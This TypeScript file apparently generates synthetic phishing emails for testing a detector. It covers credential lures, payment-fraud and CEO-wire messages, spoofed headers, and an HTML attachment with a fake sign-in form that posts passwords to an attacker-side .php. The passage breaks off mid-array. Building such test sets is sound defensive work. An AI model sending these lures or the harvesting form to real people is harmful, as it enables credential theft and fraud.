// The tenth unseen set's phishing: what a company's reporting mailbox holds in 2026, in its proportions.
// Half mass credential lures (Microsoft 365, Okta, Google, DocuSign, Adobe, Dropbox, voicemail, fax, HR,
// payroll, benefits, quarantine digests, QR codes), a fifth business-email compromise and payment fraud
// (thread takeovers from lookalike supplier domains, gift cards, payroll diversion, urgent wires, most with
// no link at all), the rest malware delivery and consumer scams. The English templates are here, those in
// German, French, Spanish, Italian and Dutch in unseen-10-local.ts; the scene is unseen-10-scene.ts.
import type { SeededRandom } from './generate.js';
import { mimeMessage } from './mime.js';
import { diskImage, oneNote, qrJpeg, qrPng, zipOf } from './payloads.js';
import { LOCAL_TEMPLATES } from './unseen-10-local.js';
import {
  amount,
  attackerAuth,
  combosquat,
  day,
  digits,
  freeHostLink,
  freeMail,
  from,
  gibberish,
  hackedSite,
  hex,
  localWords,
  lookalike,
  type Mail,
  money,
  type Person,
  part,
  passing,
  person,
  render,
  spoofAuth,
  supplier,
  type Template,
  token,
  upper,
  withVictim,
} from './unseen-10-scene.js';
import { invitation, onePagePdf } from './unseen-payloads.js';

/** Where a credential lure sends the victim: a free host, a hacked site or an attacker's own domain. */
function landing(r: SeededRandom, to: Person, slug: string, own?: string): string {
  const where = r.below(own === undefined ? 2 : 3);
  let target: string;
  if (where === 0) target = withVictim(r, freeHostLink(r, slug), to);
  else if (where === 1) {
    const site = hackedSite(r);
    target = withVictim(r, `https://${site.host}${site.path}`, to);
  } else target = withVictim(r, `https://${own}/${r.pick(['', 'auth/', 'sso/', `${token(r, 6)}/`])}`, to);
  const hop = r.below(5);
  if (hop === 0)
    return `https://bit.ly/${token(r, 7, 'abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789')}`;
  if (hop === 1)
    return `https://www.google.com/url?q=${encodeURIComponent(target)}&sa=D&usg=AOvVaw${token(r, 22)}`;
  return target;
}

const DOCS = [
  'Q4 Vendor Reconciliation',
  'FY27 Budget Draft',
  'Signed NDA',
  'Revised Payment Schedule',
  'Remittance Advice',
  'Updated Pricing Agreement',
  'Contract Amendment No. 3',
];

const credential: Template[] = [
  {
    name: 'm365-password-expiry',
    kind: 'password-expiry',
    lang: 'en',
    make(r, to) {
      const spoof = r.below(2) === 0;
      const domain = spoof ? 'corp.example' : combosquat(r, r.pick(['office365', 'm365', 'outlook']));
      const relay = gibberish(r);
      const days = 1 + r.below(3);
      return {
        headers: [
          from(
            r.pick(['IT Service Desk', 'Microsoft 365 Admin', 'Account Services']),
            `${r.pick(['no-reply', 'it-support', 'admin'])}@${domain}`,
          ),
          spoof ? spoofAuth(r, domain, relay) : attackerAuth(r, domain),
        ],
        subject: r.pick([
          `Password expiry notice for ${to.email}`,
          `Your password expires in ${days} day(s)`,
          'Action required: password renewal',
        ]),
        ...render(r, {
          brand: { name: 'Microsoft 365', color: '#0067b8' },
          paras: [
            r.pick([
              `The password for ${to.email} is due to expire in ${days} day(s).`,
              `Our records show the password for your account ${to.email} will expire on ${day(r, 'en')}.`,
            ]),
            r.pick([
              'To keep your current password and avoid interruption to Outlook and Teams, confirm it below.',
              'You can keep using your current password by validating it before it expires.',
              'If no action is taken, you will be signed out of all devices and will need IT to restore access.',
            ]),
          ],
          button: {
            label: r.pick(['Keep current password', 'Keep Same Password', 'Review now']),
            href: landing(r, to, 'm365', domain === 'corp.example' ? undefined : domain),
          },
          footer: 'This message was sent from an unmonitored mailbox.',
        }),
      };
    },
  },
  {
    name: 'mfa-reregistration',
    kind: 'mfa-reset',
    lang: 'en',
    make(r, to) {
      const domain = `corpexample-${r.pick(['sso', 'idp', 'mfa', 'identity'])}.${r.pick(['example.net', 'test', 'example.org'])}`;
      return {
        headers: [
          from(r.pick(['Identity & Access', 'Corp IT Security', 'Security Operations']), `noreply@${domain}`),
          attackerAuth(r, domain),
        ],
        subject: r.pick([
          'Re-register your authenticator by Friday',
          'Action required: MFA method update',
          'Your sign-in method will be removed',
        ]),
        ...render(r, {
          paras: [
            `Hi ${to.first},`,
            r.pick([
              'As part of the migration to passkeys, every account must re-register its authenticator app this week.',
              'We are retiring SMS codes as a sign-in method. Accounts that have not moved to the Authenticator app will be locked.',
              'Our records show your MFA registration is incomplete after the recent tenant update.',
            ]),
            r.pick([
              'It takes about two minutes.',
              'Please complete this before the end of the week.',
              'Unregistered accounts will be blocked on Monday.',
            ]),
          ],
          button: { label: 'Register now', href: landing(r, to, 'corp-mfa', domain) },
          sig: ['Thanks,', 'IT Security'],
        }),
      };
    },
  },
  {
    name: 'sharepoint-from-hijacked-supplier',
    kind: 'sharepoint-share-compromised',
    lang: 'en',
    make(r) {
      const s = supplier(r, 'en');
      const tenant = s.domain.split('.')[0].replace(/-/g, '');
      const doc = r.pick(DOCS);
      const link = `https://${tenant}-my.sharepoint.com/:${r.pick(['b', 'o', 'w'])}:/g/personal/${s.contact.toLowerCase().replace(' ', '_')}_${tenant}_example/E${token(r, 22)}?e=${token(r, 6)}`;
      return {
        headers: [
          `From: "${s.contact} (via SharePoint Online)" <no-reply@sharepointonline.com>`,
          passing('sharepointonline.com'),
        ],
        subject: `${s.contact} shared "${doc}" with you`,
        ...render(
          r,
          {
            brand: { name: 'SharePoint', color: '#036c70' },
            paras: [
              `${s.contact} shared a file with you`,
              r.pick([
                'Please review and let me know if you have any questions.',
                'Hi, see attached the documents as discussed.',
                'Kindly review the document and revert.',
              ]),
            ],
            facts: [['File', `${doc}.pdf`]],
            button: { label: 'Open', href: link },
            footer: `This email is generated through ${s.name}'s use of Microsoft 365 and may contain content that is controlled by ${s.name}.`,
          },
          'html',
          'panel',
        ),
      };
    },
  },
  {
    name: 'proposal-link-from-hijacked-mailbox',
    kind: 'vendor-document-link',
    lang: 'en',
    make(r, to) {
      const s = supplier(r, 'en');
      const contact = s.contact.split(' ');
      return {
        headers: [
          from(s.contact, `${contact[0]}.${contact[1]}@${s.domain}`.toLowerCase()),
          passing(s.domain),
        ],
        subject: r.pick([`${s.name} – Proposal`, `New document from ${s.name}`, `RFP Response – ${s.name}`]),
        ...render(r, {
          paras: [
            r.pick([`Hello ${to.first},`, 'Good afternoon,', 'Hi,']),
            r.pick([
              `${s.name} has shared a proposal with you for review.`,
              'Please find our updated proposal via the secure link below.',
              'As promised, here is the revised quote. It was too large to attach.',
            ]),
          ],
          button: {
            label: r.pick(['View Proposal', 'Access Document', 'Review Shared File']),
            href: landing(r, to, 'proposal'),
          },
          sig: ['Regards,', s.contact, s.name],
        }),
      };
    },
  },
  {
    name: 'voicemail-link',
    kind: 'voicemail',
    lang: 'en',
    make(r, to) {
      const domain = r.pick([gibberish(r), combosquat(r, r.pick(['voice', 'ringcentral', 'vm']))]);
      const caller = `+1 (${200 + r.below(700)}) ${digits(r, 3)}-${digits(r, 4)}`;
      const length = `0:${10 + r.below(50)}`;
      const href = landing(r, to, 'vm-play', domain);
      const attached = r.below(2) === 0;
      const player = `<html><head><meta http-equiv="refresh" content="0; url=${href}"><title>Voice Message</title></head><body>Loading voice message for ${to.email}…</body></html>`;
      return {
        headers: [
          from(r.pick(['Voice Mail', 'VoiceMail Service', 'Unified Messaging']), `voicemail@${domain}`),
          attackerAuth(r, domain),
        ],
        subject: r.pick([
          `New voicemail from ${caller}`,
          `Voice message (${length}) for ${to.first}`,
          `You have 1 new voice message`,
        ]),
        ...render(
          r,
          {
            brand: { name: 'Voice Messaging', color: '#5b2a86' },
            title: 'You received a new voice message',
            facts: [
              ['From', caller],
              ['Received', day(r, 'en')],
              ['Length', length],
            ],
            paras: [
              attached
                ? 'Open the attached audio file to listen to the message in your browser.'
                : 'The message is available for playback for 48 hours.',
            ],
            button: attached
              ? undefined
              : { label: r.pick(['Play message', 'Listen', '▶ Play Voice Message']), href },
          },
          undefined,
          r.pick(['panel', 'notice']),
        ),
        parts: attached
          ? [
              part(
                'text/html',
                `VM_${digits(r, 6)}_Playback.${r.pick(['htm', 'html', 'shtml'])}`,
                Buffer.from(player),
              ),
            ]
          : [],
      };
    },
  },
  {
    name: 'efax-hacked-site',
    kind: 'fax-notification',
    lang: 'en',
    make(r, to) {
      const domain = gibberish(r);
      const pages = 2 + r.below(6);
      return {
        headers: [from('eFax Delivery', `fax-noreply@${domain}`), attackerAuth(r, domain)],
        subject: `Fax received: ${pages} pages from ${digits(r, 3)}-${digits(r, 3)}-${digits(r, 4)}`,
        ...render(
          r,
          {
            title: 'Incoming fax',
            facts: [
              ['Pages', String(pages)],
              ['Job', `FX-${upper(r, 8)}`],
              ['Recipient', to.email],
            ],
            paras: [
              r.pick([
                'Sign in to view the document in your online fax inbox.',
                'Your document is ready to view.',
              ]),
            ],
            button: { label: 'View fax', href: landing(r, to, 'fax') },
          },
          undefined,
          'notice',
        ),
      };
    },
  },
  {
    name: 'docusign-lookalike',
    kind: 'docusign-envelope',
    lang: 'en',
    make(r, to) {
      const domain = combosquat(r, 'docusign');
      const s = supplier(r, 'en');
      const doc = r.pick(DOCS);
      return {
        headers: [from(`${s.contact} via DocuSign`, `dse@${domain}`), attackerAuth(r, domain)],
        subject: r.pick([
          `Please DocuSign: ${doc}.pdf`,
          `Complete with DocuSign: ${doc}`,
          `${s.contact} sent you a document to review and sign`,
        ]),
        ...render(
          r,
          {
            brand: { name: 'DocuSign', color: '#1e1e56' },
            paras: [
              `${s.contact} sent you a document to review and sign.`,
              r.pick([
                'Please review at your earliest convenience.',
                'Kindly sign today so we can process the payment.',
                '',
              ]),
            ].filter(Boolean),
            button: { label: 'REVIEW DOCUMENT', href: landing(r, to, 'docs-sign', domain) },
            footer: 'Do Not Share This Email. This email contains a secure link to DocuSign.',
          },
          'html',
          'panel',
        ),
      };
    },
  },
  {
    name: 'adobe-sign-gibberish',
    kind: 'adobe-sign',
    lang: 'en',
    make(r, to) {
      const domain = gibberish(r);
      const sender = person(r, 'corp.example');
      return {
        headers: [from('Adobe Acrobat Sign', `adobesign@${domain}`), attackerAuth(r, domain)],
        subject: r.pick([
          `${sender.name} has requested your signature`,
          `Signature requested on "${r.pick(DOCS)}"`,
        ]),
        ...render(r, {
          brand: { name: 'Adobe Acrobat Sign', color: '#eb1000' },
          paras: [
            `${sender.name} (${sender.email}) has requested your e-signature.`,
            r.pick(['Due today.', 'This agreement expires in 24 hours.', 'Please review and complete.']),
          ],
          button: { label: 'Review and sign', href: landing(r, to, 'acrobat-sign') },
        }),
      };
    },
  },
  {
    name: 'dropbox-genuine-share-abused',
    kind: 'dropbox-share-abuse',
    lang: 'en',
    make(r) {
      const sharer = person(r, r.pick(['gmail.com', 'outlook.com']));
      const file = `${r.pick(DOCS)}.${r.pick(['pdf', 'paper'])}`;
      return {
        headers: [
          from(`${sharer.name} (via Dropbox)`, 'no-reply@dropbox.com'),
          `Reply-To: ${sharer.email}`,
          passing('dropbox.com'),
        ],
        subject: `${sharer.name} shared "${file}" with you`,
        ...render(
          r,
          {
            brand: { name: 'Dropbox', color: '#0061fe' },
            paras: [
              `${sharer.name} invited you to view the file "${file}" on Dropbox.`,
              r.pick([
                '"Please review the attached payment confirmation."',
                '"Invoice and payment details inside."',
                '',
              ]),
            ].filter(Boolean),
            button: {
              label: 'View file',
              href: `https://www.dropbox.com/scl/fi/${token(r, 21)}/${encodeURIComponent(file)}?rlkey=${token(r, 25)}&dl=0`,
            },
          },
          'html',
          'panel',
        ),
      };
    },
  },
  {
    name: 'google-docs-mention-abused',
    kind: 'google-docs-mention-abuse',
    lang: 'en',
    make(r, to) {
      const actor = person(r, 'gmail.com');
      const docId = `1${token(r, 43, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-')}`;
      return {
        headers: [
          from(`${actor.name} (Google Docs)`, 'comments-noreply@docs.google.com'),
          `Reply-To: ${actor.email}`,
          passing('docs.google.com'),
        ],
        subject: `Document shared with you: "${r.pick(DOCS)}"`,
        ...render(
          r,
          {
            brand: { name: 'Google Docs', color: '#1a73e8' },
            paras: [
              `${actor.name} mentioned you in a comment.`,
              `"@${to.email} ${r.pick(['your payment has been processed, confirm receipt here', 'please verify the remittance before Friday', 'the wire confirmation is ready for your approval'])}: ${freeHostLink(r, 'remit')}"`,
            ],
            button: {
              label: 'Open',
              href: `https://docs.google.com/document/d/${docId}/edit?disco=AAAB${token(r, 10)}`,
            },
            footer: 'Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA',
          },
          'html',
          'panel',
        ),
      };
    },
  },
  {
    name: 'okta-session-lookalike',
    kind: 'okta-session',
    lang: 'en',
    make(r, to) {
      const domain = r.pick([
        `corpexample-okta.${r.pick(['example.net', 'test'])}`,
        `okta-corpexample.example.com`,
        combosquat(r, 'okta'),
      ]);
      return {
        headers: [from('Okta', `noreply@${domain}`), attackerAuth(r, domain)],
        subject: r.pick([
          'Unusual sign-in attempt blocked',
          'Your Okta session requires re-verification',
          'Okta Verify: action needed',
        ]),
        ...render(r, {
          brand: { name: 'okta', color: '#00297a' },
          paras: [
            r.pick([
              `We blocked a sign-in to ${to.email} from a new device in ${r.pick(['Lagos, NG', 'Bucharest, RO', 'Jakarta, ID', 'São Paulo, BR'])}.`,
              'Your session has expired due to a security policy change.',
            ]),
            r.pick([
              'If this was not you, secure your account now.',
              'Verify your identity to continue using your apps.',
            ]),
          ],
          button: {
            label: r.pick(['Secure my account', 'Verify identity']),
            href: withVictim(
              r,
              `https://${domain}/${r.pick(['signin/verify', 'app/UserHome', 'login'])}`,
              to,
            ),
          },
        }),
      };
    },
  },
  {
    name: 'hr-handbook-acknowledgement',
    kind: 'hr-policy',
    lang: 'en',
    make(r, to) {
      const spoof = r.below(2) === 0;
      const domain = spoof
        ? 'corp.example'
        : `corp-${r.pick(['hr', 'people', 'peopleteam'])}.${r.pick(['example.net', 'test'])}`;
      return {
        headers: [
          from(r.pick(['Human Resources', 'People Team', 'HR Department']), `hr@${domain}`),
          spoof ? spoofAuth(r, domain, gibberish(r)) : attackerAuth(r, domain),
        ],
        subject: r.pick([
          'Updated Employee Handbook – acknowledgement required',
          '2027 policy updates: please sign by Friday',
          `${to.first}, action required: revised remote work policy`,
        ]),
        ...render(r, {
          paras: [
            `Dear ${to.first},`,
            r.pick([
              'The 2027 Employee Handbook has been updated with changes to leave, remote work and expense policy.',
              'All staff are asked to review and acknowledge the revised code of conduct.',
            ]),
            'Please read and sign the acknowledgement form using your company credentials.',
          ],
          button: {
            label: r.pick(['Review handbook', 'Acknowledge policy']),
            href: landing(r, to, 'hr-policy', spoof ? undefined : domain),
          },
          sig: ['Kind regards,', 'Human Resources'],
        }),
      };
    },
  },
  {
    name: 'salary-adjustment-letter',
    kind: 'payroll-adjustment',
    lang: 'en',
    make(r, to) {
      const domain = r.pick([`corp-payroll.${r.pick(['example.net', 'example.org'])}`, localWords(r, 'en')]);
      const pct = (2 + r.below(6)).toString();
      return {
        headers: [from('Payroll', `payroll@${domain}`), attackerAuth(r, domain)],
        subject: r.pick([
          `Salary adjustment letter – ${to.name}`,
          'Your 2027 compensation statement',
          `Confidential: compensation review ${to.first}`,
        ]),
        ...render(r, {
          paras: [
            `Hello ${to.first},`,
            r.pick([
              `Following the annual review, your salary has been adjusted by ${pct}% effective January 1.`,
              'Your compensation statement for the coming year has been published.',
            ]),
            'The letter is available in the secure payroll portal. Please sign in with your work account to view it.',
          ],
          button: { label: 'View letter', href: landing(r, to, 'payroll-doc', domain) },
          sig: ['Payroll & Compensation'],
        }),
      };
    },
  },
  {
    name: 'benefits-open-enrollment',
    kind: 'benefits-enrollment',
    lang: 'en',
    make(r, to) {
      const domain = combosquat(r, 'benefits');
      return {
        headers: [
          from(r.pick(['Benefits Center', 'Open Enrollment Team']), `enroll@${domain}`),
          attackerAuth(r, domain),
        ],
        subject: r.pick([
          'Open enrollment closes this Friday',
          'Reminder: confirm your 2027 benefits elections',
          'Your benefits will default to the basic plan',
        ]),
        ...render(r, {
          brand: { name: 'Employee Benefits', color: '#1b7f5b' },
          paras: [
            `${to.first}, you have not yet confirmed your 2027 elections.`,
            r.pick([
              'If you do not confirm, your coverage will default to the basic plan with no dependants.',
              'Confirm your medical, dental and vision choices before the window closes.',
            ]),
          ],
          button: { label: 'Confirm elections', href: landing(r, to, 'benefits', domain) },
        }),
      };
    },
  },
  {
    name: 'mailbox-quota-full',
    kind: 'mailbox-quota',
    lang: 'en',
    make(r, to) {
      const relay = gibberish(r);
      const used = 96 + r.below(4);
      return {
        headers: [
          from('Email Administrator', `postmaster@corp.example`),
          spoofAuth(r, 'corp.example', relay),
        ],
        subject: r.pick([
          `Mailbox ${used}% full – incoming mail on hold`,
          `${to.email}: storage limit reached`,
        ]),
        ...render(
          r,
          {
            title: 'Mailbox storage warning',
            facts: [
              ['Mailbox', to.email],
              ['Used', `${(49 + r.below(10) / 10).toFixed(1)} GB of 50 GB`],
              ['Held messages', String(3 + r.below(20))],
            ],
            paras: [
              'Incoming messages are being held until space is freed. Upgrade your quota at no cost below.',
            ],
            button: { label: 'Increase storage', href: landing(r, to, 'mailquota') },
          },
          undefined,
          'notice',
        ),
      };
    },
  },
  {
    name: 'authenticator-qr',
    kind: 'qr-code-lure',
    lang: 'en',
    async make(r, to) {
      const domain = gibberish(r);
      const target = landing(r, to, 'mfa-qr', r.below(2) === 0 ? domain : undefined);
      const inPdf = r.below(2) === 0;
      const body = render(
        r,
        {
          paras: [
            `${to.first},`,
            r.pick([
              'Your multi-factor authentication needs to be re-synchronised after the security update.',
              'Your Authenticator registration will expire today.',
            ]),
            inPdf
              ? 'Open the attached instructions and scan the QR code with your phone camera to complete the update.'
              : 'Scan the QR code below with your phone camera to complete the update.',
          ],
          sig: ['IT Security Team'],
        },
        inPdf ? r.pick(['text', 'html'] as const) : 'html',
      );
      const headers = [
        from(r.pick(['Microsoft Authenticator', 'MFA Security']), `security@${domain}`),
        attackerAuth(r, domain),
      ];
      const subject = r.pick([
        '2FA re-synchronisation required',
        'Scan to keep your account active',
        `Security update for ${to.email}`,
      ]);
      if (inPdf) {
        const pdf = onePagePdf(
          ['Multi-factor authentication update', `Account: ${to.email}`, 'Scan with your phone camera:'],
          {
            jpeg: await qrJpeg(target),
          },
        );
        return {
          headers,
          subject,
          ...body,
          parts: [part('application/pdf', `MFA_Update_${digits(r, 4)}.pdf`, pdf)],
        };
      }
      return {
        headers,
        subject,
        html: body.html?.replace(
          '</div></body>',
          '<p><img src="cid:qr.png" width="200" height="200" alt=""></p></div></body>',
        ),
        parts: [{ type: 'image/png', name: 'qr.png', content: await qrPng(target), inline: true }],
      };
    },
  },
  {
    name: 'meeting-invite-lure',
    kind: 'calendar-invite-lure',
    lang: 'en',
    make(r, to) {
      const domain = localWords(r, 'en');
      const organizer = person(r, domain);
      const href = landing(r, to, 'meet', domain);
      const summary = r.pick([
        'Q4 Performance Review',
        'Compensation Review – Confidential',
        'Quarterly bonus allocation',
        'Mandatory compliance briefing',
      ]);
      return {
        headers: [from(organizer.name, organizer.email), attackerAuth(r, domain)],
        subject: `Invitation: ${summary} @ ${day(r, 'en')}`,
        text: `${summary}\r\n\r\nPlease review the agenda and pre-read before the meeting: ${href}\r\n`,
        parts: [
          part(
            'text/calendar',
            'invite.ics',
            invitation({
              uid: `${hex(r, 16)}@${domain}`,
              organizer: organizer.email,
              attendee: to.email,
              summary,
              description: `Pre-read and agenda (sign in with your work account): ${href}`,
              location: 'Online',
              start: `202612${String(8 + r.below(14)).padStart(2, '0')}T${String(9 + r.below(8)).padStart(2, '0')}0000Z`,
            }),
          ),
        ],
      };
    },
  },
  {
    name: 'account-deactivation-ticket',
    kind: 'account-deactivation',
    lang: 'en',
    make(r, to) {
      const domain = r.pick([`corp-helpdesk.${r.pick(['example.org', 'test'])}`, gibberish(r)]);
      const ticket = `INC${digits(r, 7)}`;
      return {
        headers: [from('Service Desk', `servicedesk@${domain}`), attackerAuth(r, domain)],
        subject: `[${ticket}] Request to deactivate your account`,
        ...render(
          r,
          {
            paras: [
              `A request to deactivate ${to.email} was received and will be processed within 24 hours.`,
              r.pick([
                'If you did not make this request, cancel it below.',
                'To cancel this request, verify your account now.',
              ]),
            ],
            facts: [
              ['Ticket', ticket],
              ['Status', 'Pending'],
            ],
            button: { label: 'Cancel request', href: landing(r, to, 'cancel-request', domain) },
          },
          undefined,
          'notice',
        ),
      };
    },
  },
  {
    name: 'quarantine-digest',
    kind: 'quarantine-digest',
    lang: 'en',
    make(r, to) {
      const domain = combosquat(r, r.pick(['protection', 'mailsecurity', 'spamfilter']));
      const subjects = [
        'Payment Confirmation',
        'RE: Contract',
        'Outstanding Invoice',
        'Shipping Notice',
        'Meeting notes',
        'Voice message',
      ];
      const first = r.below(subjects.length);
      const held = Array.from({ length: 2 + r.below(3) }, (_, k) => subjects[(first + k) % subjects.length]);
      const href = landing(r, to, 'quarantine', domain);
      return {
        headers: [from('Quarantine Notification', `quarantine@${domain}`), attackerAuth(r, domain)],
        subject: `You have ${held.length} messages held for review`,
        ...render(
          r,
          {
            title: `${held.length} messages for ${to.email} are in quarantine`,
            facts: held.map((h, i) => [`Message ${i + 1}`, h]),
            paras: ['Messages will be deleted after 3 days.'],
            button: { label: 'Release all to inbox', href },
          },
          undefined,
          r.pick(['notice', 'panel']),
        ),
      };
    },
  },
];

/** An earlier exchange with a supplier, quoted under a reply. */
function quotedThread(who: string, company: string, invoice: string, wrote: string): string {
  return [
    '',
    `-----Original Message-----`,
    `From: ${who}`,
    `Sent: ${wrote}`,
    `Subject: Invoice ${invoice}`,
    '',
    `Hi, please see invoice ${invoice} for ${company} attached. Payment terms 30 days.`,
  ].join('\r\n');
}

const fraud: Template[] = [
  {
    name: 'supplier-thread-takeover',
    kind: 'vendor-thread-takeover',
    lang: 'en',
    make(r, to) {
      const s = supplier(r, 'en');
      const domain = lookalike(r, s.domain);
      const [first, last] = s.contact.split(' ');
      const invoice = `INV-${digits(r, 5)}`;
      const body = [
        `Hi ${to.first},`,
        '',
        r.pick([
          'Following our audit, we have changed banks. Please make sure the payment of the invoice below goes to our new account.',
          'Kindly note our bank details have been updated. The old account is under review and can no longer receive funds.',
          'Quick update before you process this: please use our new remittance details going forward.',
        ]),
        '',
        `Account name: ${s.name}`,
        `Sort code: ${digits(r, 2)}-${digits(r, 2)}-${digits(r, 2)}`,
        `Account number: ${digits(r, 8)}`,
        '',
        r.pick([
          'Please confirm once updated.',
          'Can you confirm the date of payment?',
          'Let me know when done so I can inform our accounts team.',
        ]),
        '',
        `Regards,`,
        s.contact,
        quotedThread(
          `${s.contact} <${`${first}.${last}@${s.domain}`.toLowerCase()}>`,
          s.name,
          invoice,
          day(r, 'en'),
        ),
      ].join('\r\n');
      return {
        headers: [from(s.contact, `${first}.${last}@${domain}`.toLowerCase()), attackerAuth(r, domain)],
        subject: `RE: Invoice ${invoice}`,
        text: body,
      };
    },
  },
  {
    name: 'executive-gift-cards',
    kind: 'gift-card-request',
    lang: 'en',
    make(r, to) {
      const boss = person(r);
      const address = freeMail(r, boss);
      return {
        headers: [from(boss.name, address), passing(address.split('@')[1])],
        subject: r.pick(['Quick favor', 'Are you available?', 'Request', `${to.first}`]),
        text: [
          r.pick([`Hi ${to.first},`, `${to.first},`, 'Hello,']),
          '',
          r.pick([
            'Are you available at the moment? I need you to handle something for me discreetly.',
            "I'm in back-to-back meetings and can't talk. I need a favor quickly.",
            'Can you get some gift cards for a few clients today? It is a surprise so keep it between us.',
          ]),
          '',
          r.pick([
            "Let me know and I'll send the details.",
            'Reply with your cell number.',
            'I will reimburse you this afternoon.',
          ]),
          '',
          r.pick(['Thanks', 'Best', 'Sent from my iPhone']),
          boss.name,
        ].join('\r\n'),
      };
    },
  },
  {
    name: 'direct-deposit-change',
    kind: 'payroll-diversion',
    lang: 'en',
    make(r, to) {
      const employee = person(r);
      const address = freeMail(r, employee);
      return {
        headers: [from(employee.name, address), passing(address.split('@')[1])],
        subject: r.pick(['Direct deposit update', 'Change of bank details for payroll', 'Payroll account']),
        text: [
          `Hi ${to.first},`,
          '',
          r.pick([
            'I recently changed banks and would like to update my direct deposit before the next pay date.',
            'I need to change my bank account for my salary. What do you need from me?',
          ]),
          r.pick([
            'Can it be effective for this pay period?',
            'Please let me know what information you need.',
            'I am writing from my personal email as I am on leave.',
          ]),
          '',
          'Thank you,',
          employee.name,
        ].join('\r\n'),
      };
    },
  },
  {
    name: 'ceo-confidential-wire',
    kind: 'ceo-wire',
    lang: 'en',
    make(r, to) {
      const ceo = person(r);
      const spoofed = `corp-example.${r.pick(['test', 'example.net'])}`;
      const asFree = r.below(2) === 0;
      const reply = freeMail(r, ceo);
      return {
        headers: asFree
          ? [
              from(ceo.name, `${ceo.first}.${ceo.last}@corp.example`.toLowerCase()),
              `Reply-To: ${reply}`,
              spoofAuth(r, 'corp.example', gibberish(r)),
            ]
          : [from(ceo.name, `${ceo.first}.${ceo.last}@${spoofed}`.toLowerCase()), attackerAuth(r, spoofed)],
        subject: r.pick(['Urgent – confidential', 'Wire today', 'Are you at your desk?']),
        ...render(
          r,
          {
            paras: [
              `${to.first},`,
              r.pick([
                'We are closing a confidential acquisition and I need a wire processed today. Legal will send the details.',
                `I need you to process a payment of ${amount(money(r, 18000, 96000), 'en')} before the cut-off. Please keep this between us until the announcement.`,
                'Are you able to process an urgent international payment this morning? I will explain later.',
              ]),
              r.pick([
                'Do not discuss this with anyone else for now.',
                'I am in meetings all day, email only.',
                'Confirm and I will send the beneficiary details.',
              ]),
            ],
            sig: [ceo.name, 'Sent from my iPhone'],
          },
          r.pick(['text', 'html']),
        ),
      };
    },
  },
  {
    name: 'overdue-invoice-pdf',
    kind: 'overdue-invoice',
    lang: 'en',
    make(r, to) {
      const company = `${r.pick(['Brightwater', 'Summit Ridge', 'Oakmere', 'Silverline'])} ${r.pick(['Consulting', 'Solutions', 'Logistics', 'Supplies'])}`;
      const domain = `${company.toLowerCase().replace(/ /g, '')}-billing.${r.pick(['example', 'example.com', 'test'])}`;
      const total = amount(money(r, 2400, 48000), 'en');
      const invoice = `${digits(r, 6)}`;
      const pdf = onePagePdf([
        `${company} – INVOICE ${invoice}`,
        `Bill to: Corp Example, Accounts Payable`,
        `Amount due: ${total}   Status: OVERDUE`,
        `Bank: First Meridian Bank  Routing ${digits(r, 9)}  Account ${digits(r, 10)}`,
      ]);
      return {
        headers: [from(`${company} Accounts`, `ar@${domain}`), attackerAuth(r, domain)],
        subject: r.pick([
          `Overdue: Invoice ${invoice}`,
          `Second reminder – invoice ${invoice}`,
          `Past due balance ${total}`,
        ]),
        ...render(
          r,
          {
            paras: [
              r.pick(['Hello Accounts Payable,', `Dear ${to.first},`]),
              `Our records show invoice ${invoice} for ${total} remains unpaid. ${r.pick(['Please arrange payment today to avoid a late fee.', 'Kindly process this payment by end of week.', 'Please advise on payment status.'])}`,
              'Invoice attached with our payment details.',
            ],
            sig: ['Accounts Receivable', company],
          },
          r.pick(['text', 'html']),
        ),
        parts: [part('application/pdf', `Invoice_${invoice}.pdf`, pdf)],
      };
    },
  },
  {
    name: 'attorney-confidential-deal',
    kind: 'attorney-impersonation',
    lang: 'en',
    make(r, to) {
      const firm = `${r.pick(['Hargreave', 'Pemberton', 'Ashcombe', 'Delacroix'])} ${r.pick(['& Wolde LLP', 'Partners LLP', 'Legal'])}`;
      const domain = `${firm.split(' ')[0].toLowerCase()}-law.${r.pick(['example', 'example.org', 'test'])}`;
      const lawyer = person(r, domain);
      const project = r.pick(['Aurora', 'Kingfisher', 'Meridian', 'Blue Harbor']);
      return {
        headers: [from(`${lawyer.name} | ${firm}`, lawyer.email), attackerAuth(r, domain)],
        subject: `Project ${project} – strictly confidential`,
        text: [
          `Dear ${to.first},`,
          '',
          `I am acting for your CEO on Project ${project}. I was asked to contact you directly regarding a payment that must be made before the deal is announced.`,
          r.pick([
            'Please send me a phone number where I can reach you privately.',
            'Please confirm your availability for a short call today.',
          ]),
          'Due to SEC disclosure rules this matter must not be discussed with anyone else at the company.',
          '',
          'Regards,',
          lawyer.name,
          firm,
        ].join('\r\n'),
      };
    },
  },
  {
    name: 'aging-report-request',
    kind: 'aging-report-request',
    lang: 'en',
    make(r, to) {
      const cfo = person(r);
      const reply = freeMail(r, cfo);
      return {
        headers: [
          from(cfo.name, `${cfo.first}.${cfo.last}@corp.example`.toLowerCase()),
          `Reply-To: ${reply}`,
          spoofAuth(r, 'corp.example', gibberish(r)),
        ],
        subject: r.pick(['AR aging report', 'Request', 'Updated aging report needed']),
        text: [
          `Hi ${to.first},`,
          '',
          r.pick([
            'Can you send me the current accounts receivable aging report, with customer contact emails?',
            'Please send the updated aged debtors report today. I need it for a call with the auditors.',
          ]),
          '',
          'Thanks,',
          cfo.name,
        ].join('\r\n'),
      };
    },
  },
];

const delivery: Template[] = [
  {
    name: 'remittance-html-attachment',
    kind: 'html-attachment',
    lang: 'en',
    make(r, to) {
      const domain = gibberish(r);
      const post = `https://${r.pick([hackedSite(r).host, localWords(r, 'en')])}/${token(r, 8)}.php`;
      const page = `<html><head><title>Microsoft</title></head><body><form method="post" action="${post}"><input type="email" name="login" value="${to.email}"><input type="password" name="passwd"><button>Sign in to view remittance</button></form></body></html>`;
      const ref = digits(r, 6);
      return {
        headers: [
          from(r.pick(['Accounts Payable', 'Payment Notification']), `remittance@${domain}`),
          attackerAuth(r, domain),
        ],
        subject: r.pick([
          `Remittance Advice ${ref}`,
          `Payment sent – ref ${ref}`,
          'ACH payment confirmation',
        ]),
        ...render(
          r,
          {
            paras: [
              r.pick([
                'Please find attached remittance advice for payment sent today.',
                'Attached is the payment confirmation for your records.',
              ]),
            ],
            sig: ['Accounts Payable'],
          },
          'text',
        ),
        parts: [
          part('text/html', `Remittance_${ref}.${r.pick(['html', 'htm', 'shtml'])}`, Buffer.from(page)),
        ],
      };
    },
  },
  {
